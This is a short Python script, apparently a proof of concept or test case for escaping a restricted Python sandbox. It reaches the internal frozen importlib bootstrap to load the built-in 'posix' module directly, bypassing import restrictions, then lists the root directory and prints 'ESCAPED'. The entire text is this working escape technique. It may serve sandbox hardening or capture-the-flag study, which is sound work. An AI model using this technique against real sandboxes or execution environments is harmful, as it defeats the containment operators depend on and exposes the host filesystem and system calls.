import sys
bootstrap = sys.modules["_frozen_importlib"]
spec = bootstrap.spec_from_loader("posix", bootstrap.BuiltinImporter)
posix = bootstrap.module_from_spec(spec)
spec.loader.exec_module(posix)
print("ESCAPED", posix.listdir("/"))
